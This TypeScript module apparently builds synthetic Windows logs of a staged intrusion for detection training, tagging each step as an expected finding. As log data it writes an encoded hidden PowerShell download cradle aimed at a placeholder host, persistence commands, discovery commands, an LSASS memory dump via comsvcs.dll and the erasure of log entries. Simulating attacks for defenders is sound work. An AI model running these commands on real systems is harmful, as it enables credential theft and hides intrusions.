import type { ActorStyle } from './actor-style.ts';
import type { Host } from './inventory.ts';
import type { Random } from './random.ts';
import { randomFor } from './random.ts';
import type { StepName } from './steps.ts';
import { planned } from './steps.ts';
import { noteConnection, noteFile, noteLibrary, noteRegistry } from './sysmon-notes.ts';
import type { Process } from './sysmon-process.ts';
import { runningProcess, startProcess } from './sysmon-process.ts';
import type { World } from './world.ts';
import { hourUs, minuteUs, note, secondUs } from './world.ts';

/** 198.51.100.0/24 is reserved for documentation (RFC 5737), as is `.example`. */
const control = { address: '198.51.100.23', name: 'cdn.hanafubuki.example', port: 443 };

const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const cmd = 'C:\\Windows\\System32\\cmd.exe';

interface Scene {
  readonly world: World;
  readonly host: Host;
  readonly random: Random;
  readonly style: ActorStyle;
  readonly user: string;
  readonly midnight: number;
}

/** The first workstation: a document that is none, a loader, a foothold, a look round, the memory of LSASS. */
export function breakIn(world: World, midnight: number, style: ActorStyle): void {
  const host = world.inventory.firstVictim;
  const user = `${world.inventory.domain}\\${host.owner.account}`;
  const random = randomFor(world.seed, 'intrusion-entry');
  const scene: Scene = { world, host, random, style, user, midnight };
  const openedUs = midnight + 10 * hourUs + 42 * minuteUs + random.below(minuteUs);
  const shell = openDocument(scene, openedUs);
  const loader = startLoader(scene, openedUs + 20 * secondUs, shell);
  persist(scene, openedUs + 3 * minuteUs, loader);
  lookRound(scene, midnight + 11 * hourUs + 20 * minuteUs + random.below(minuteUs), loader);
  dumpMemory(scene, midnight + 12 * hourUs + 48 * minuteUs + random.below(minuteUs), loader);
}

function openDocument(scene: Scene, timeUs: number): Process {
  const { world, host, random, style, user } = scene;
  const script = `IEX (New-Object Net.WebClient).DownloadString('https://${control.name}/議題.txt')`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const shell = startProcess(
    world,
    host,
    random,
    timeUs,
    {
      image: powershell,
      command: `"${powershell}" -NoP -W Hidden -Enc ${encoded}`,
      user,
      parent: runningProcess(random, 'C:\\Windows\\explorer.exe', user),
      original: 'PowerShell.EXE',
    },
    planned(style, 'encoded-download', { file: '会議の議題.pdf.lnk' }),
  );
  const scriptId = random.guid().slice(1, -1);
  const text = { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: script, ScriptBlockId: scriptId, Path: '' };
  note(world, host, 'scriptBlock', timeUs + 2 * secondUs, text, planned(style, 'script-cradle'));
  noteConnection(world, host, random, timeUs + 3 * secondUs, shell, control, planned(style, 'beacon'));
  return shell;
}

function startLoader(scene: Scene, timeUs: number, shell: Process): Process {
  const { world, host, random, style, user } = scene;
  const path = `${style.folder}\\${style.program}`;
  for (const [index, file] of [style.program, style.library, style.payload].entries()) {
    noteFile(world, host, timeUs + index * secondUs, shell, `${style.folder}\\${file}`);
  }
  const waiting = startProcess(
    world,
    host,
    random,
    timeUs + 10 * secondUs,
    { image: cmd, command: `cmd.exe /c ping 127.0.0.1 -n 70 > nul && "${path}"`, user, parent: shell },
    planned(style, 'delayed-start'),
  );
  const startedUs = timeUs + 80 * secondUs;
  const loader = startProcess(world, host, random, startedUs, {
    image: path,
    command: `"${path}"`,
    user,
    parent: waiting,
    company: style.signer,
  });
  const library = { path: `${style.folder}\\${style.library}`, signer: '' };
  const answer = planned(style, 'side-loading', { program: style.program, library: style.library });
  noteLibrary(world, host, random, startedUs + secondUs, loader, library, answer);
  return loader;
}

function persist(scene: Scene, timeUs: number, loader: Process): void {
  const { world, host, random, style, user, midnight } = scene;
  const path = `${style.folder}\\${style.program}`;
  const key = `HKU\\${host.owner.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${style.runValue}`;
  noteRegistry(world, host, timeUs, loader, { key, details: path }, planned(style, 'run-value'));
  const image = 'C:\\Windows\\System32\\schtasks.exe';
  const command = `schtasks /F /Create /TN ${style.task} /SC minute /MO 30 /TR "${path}"`;
  const start = { image, command, user, parent: loader };
  startProcess(
    world,
    host,
    random,
    timeUs + 18 * secondUs,
    start,
    planned(style, 'task-created', { task: style.task }),
  );
  const task = { TaskName: `\\${style.task}`, UserContext: user };
  note(world, host, 'taskRegistered', timeUs + 19 * secondUs, task);
  for (let runUs = timeUs + 30 * minuteUs; runUs < midnight + 18 * hourUs; runUs += 30 * minuteUs) {
    const run = { TaskName: `\\${style.task}`, ActionName: path, TaskInstanceId: random.guid(), EnginePID: 4120 };
    note(world, host, 'taskStarted', runUs, run, planned(style, 'task-started', { task: style.task }));
  }
  for (let callUs = timeUs; callUs < midnight + 18 * hourUs; callUs += 15 * minuteUs + random.below(20) * secondUs) {
    noteConnection(world, host, random, callUs, loader, control, planned(style, 'beacon'));
  }
}

function lookRound(scene: Scene, timeUs: number, loader: Process): void {
  const { world, host, random, style, user } = scene;
  const commands: readonly (readonly [string, StepName])[] = [
    ['whoami /all', 'discovery'],
    ['ipconfig /all', 'discovery'],
    ['netstat -ano', 'discovery'],
    ['tasklist /v', 'discovery'],
    ['net group "Domain Admins" /domain', 'admins-listed'],
    ['systeminfo', 'discovery'],
  ];
  for (const [index, [command, step]] of commands.entries()) {
    const atUs = timeUs + index * 25 * secondUs;
    const shell = startProcess(world, host, random, atUs, {
      image: cmd,
      command: `cmd /c ${command}`,
      user,
      parent: loader,
    });
    const image = `C:\\Windows\\System32\\${command.split(' ')[0]}.exe`;
    const start = { image, command, user, parent: shell };
    startProcess(world, host, random, atUs + secondUs, start, planned(style, step, { command }));
  }
}

/** Afterwards the intruder takes seven minutes out of this log: their numbers stay missing. */
function dumpMemory(scene: Scene, timeUs: number, loader: Process): void {
  const { world, host, random, style } = scene;
  const image = 'C:\\Windows\\System32\\rundll32.exe';
  const file = `${style.folder}\\l.tmp`;
  const start = {
    image,
    command: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 ${file} full`,
    user: 'NT AUTHORITY\\SYSTEM',
    parent: loader,
  };
  const dumper = startProcess(world, host, random, timeUs, start, planned(style, 'lsass-dump'));
  noteFile(world, host, timeUs + secondUs, dumper, file);
  const removedUs = timeUs + minuteUs;
  const reader = { ...start, image: `${style.folder}\\m.exe`, command: `m.exe ${file}`, parent: dumper };
  for (let index = 0; index < 9; index++) {
    startProcess(world, host, random, removedUs + index * 40 * secondUs, reader);
  }
  world.book.remove(host, 'Microsoft-Windows-Sysmon/Operational', removedUs, removedUs + 7 * minuteUs);
}
